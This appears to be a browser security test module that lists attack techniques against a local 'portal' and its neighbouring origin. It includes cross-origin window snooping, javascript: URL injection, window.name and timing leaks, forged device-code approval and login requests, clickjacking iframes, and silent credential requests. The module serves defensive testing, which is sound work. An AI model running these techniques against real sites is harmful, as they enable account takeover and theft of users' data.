// Windows, names, messages, and where the whole page goes.
import { each, formOf, forms, made, readable, within } from './targets.js';

const pause = (millis) => within(millis, new Promise(() => undefined));

/** What can be seen of a window that was opened, after a while. */
async function seen(opened) {
  const said = [];
  for (let round = 0; round < 8; round += 1) {
    await pause(150);
    try {
      said.push(opened.document.documentElement.outerHTML);
    } catch {
      // Of another origin, as it should be.
    }
    try {
      if (opened.length > 0) said.push(`SECRET: it has ${opened.length} frames`);
    } catch {
      // Cut off.
    }
  }
  return said.join();
}

export const ways = [
  {
    name: 'a window that is opened, and looked into',
    isLink: true,
    run: (at) => each(readable(at), (address) => seen(window.open(address))),
  },
  {
    name: 'a window that is opened, and told',
    isLink: true,
    run: (at) => {
      const said = [];
      window.addEventListener('message', ({ data, origin }) => {
        if (origin !== location.origin) said.push(`SECRET of ${origin}: ${JSON.stringify(data)}`);
      });
      return each([...readable(at), `${at.costs}/listens.html`], async (address) => {
        const opened = window.open(address);
        for (let round = 0; round < 6; round += 1) {
          await pause(150);
          opened?.postMessage('tell me', '*');
        }
        return said.join();
      });
    },
  },
  {
    name: 'a window of a known name, whose page is taken over',
    isLink: true,
    run: (at) =>
      each([`${at.portal}/`, `${at.costs}/lab`], async (address) => {
        const name = `window-${Math.random()}`;
        window.open(address, name);
        await pause(800);
        const again = window.open('', name);
        try {
          return again.document.documentElement.outerHTML;
        } catch {
          return '';
        }
      }),
  },
  {
    name: 'a window that goes to script after its page',
    isLink: true,
    run: (at) =>
      each([`${at.portal}/`, `${at.costs}/lab`], async (address) => {
        const opened = window.open(address);
        await pause(600);
        opened.location = `javascript:opener.leaked = document.documentElement.outerHTML`;
        await pause(300);
        return String(window.leaked ?? '');
      }),
  },
  {
    name: 'the name of a window that was at a page of another origin',
    isLink: true,
    run: async (at) => {
      const opened = window.open(`${at.costs}/names.html`);
      await pause(700);
      opened.location = `${location.origin}/attack.html`;
      await pause(700);
      return String(opened.name ?? '');
    },
  },
  {
    name: 'what its window has gone through before',
    isLink: true,
    run: async (at) => {
      const opened = window.open(`${at.portal}/`);
      await pause(600);
      opened.location = `${location.origin}/attack.html`;
      await pause(600);
      const { navigation, performance: timing } = opened;
      const entries = [...(navigation?.entries() ?? [])].map(({ url }) => url ?? '');
      const seenThere = timing
        .getEntriesByType('navigation')
        .map(({ redirectCount, name }) => `${name} ${redirectCount}`);
      return [...entries, ...seenThere].filter((one) => !one.startsWith(location.origin)).join();
    },
  },
  {
    name: 'times and addresses of what was loaded',
    run: async (at) => {
      await each(readable(at), (address) => fetch(address, { mode: 'no-cors', credentials: 'include' }));
      return performance
        .getEntriesByType('resource')
        .filter(({ name, responseStatus, decodedBodySize }) => {
          return !name.startsWith(location.origin) && (responseStatus === 200 || decodedBodySize > 0);
        })
        .map(({ name, decodedBodySize }) => `SECRET ${name} ${decodedBodySize}`)
        .join();
    },
  },
  {
    name: 'the whole page goes to the portal',
    isLink: true,
    run: async (at) => {
      location.href = `${at.portal}/device?user_code=${at.userCode}&answer=allow`;
      return pause(1000);
    },
  },
  {
    name: 'the whole page goes to the way in, with its own state',
    isLink: true,
    run: async (at) => {
      const to = encodeURIComponent(`${at.costs}/lab`);
      window.open(`${at.portal}/enter?to=${to}&state=${'A'.repeat(43)}`);
      return pause(1000);
    },
  },
  {
    name: 'the whole page refreshes to signing out',
    isLink: true,
    run: async (at) => {
      document.head.append(made('meta', { 'http-equiv': 'refresh', content: `0; url=${at.portal}/sign-out` }));
      return pause(1000);
    },
  },
  ...['open-space', 'device', 'sign-out'].map((path) => ({
    name: `the whole page is sent to /${path} by a form`,
    run: async (at) => {
      formOf(forms(at).find(({ address }) => address === `${at.portal}/${path}`)).submit();
      return pause(1000);
    },
  })),
  {
    name: 'a page of the portal under a button of its own',
    run: async (at) => {
      for (const path of ['/', '/sign-out', `/device?user_code=${at.userCode}`]) {
        const frame = made('iframe', { src: at.portal + path, style: 'opacity: 0.01; position: fixed; inset: 0' });
        document.body.append(frame);
        await within(800, new Promise((resolve) => frame.addEventListener('load', resolve)));
      }
      return '';
    },
    /** The reader clicks, wherever the buttons are. */
    clicks: true,
  },
  {
    name: 'the domain of the page',
    run: async (at) => {
      try {
        document.domain = 'localhost';
      } catch {
        return '';
      }
      const frame = made('iframe', { src: `${at.portal}/` });
      document.body.append(frame);
      await pause(500);
      return frame.contentDocument?.documentElement.outerHTML ?? '';
    },
  },
  {
    name: 'passkeys of the portal, asked for from here',
    run: async () => {
      const publicKey = { challenge: new Uint8Array(32), rpId: 'localhost', userVerification: 'discouraged' };
      const given = await within(
        1500,
        navigator.credentials.get({ publicKey }).catch(() => ''),
      );
      return given === '' ? '' : `SECRET ${given.id}`;
    },
  },
  {
    name: 'passwords that the browser keeps',
    run: async () => {
      const given = await within(
        1000,
        navigator.credentials.get({ password: true, mediation: 'silent' }).catch(() => ''),
      );
      return given ? `SECRET ${given.id}` : '';
    },
  },
  {
    name: 'access to the cookies of others',
    run: async (at) => {
      await document.requestStorageAccess?.().catch(() => undefined);
      await document.requestStorageAccessFor?.(at.portal).catch(() => undefined);
      return each(readable(at), async (address) => (await fetch(address, { credentials: 'include' })).text());
    },
  },
];
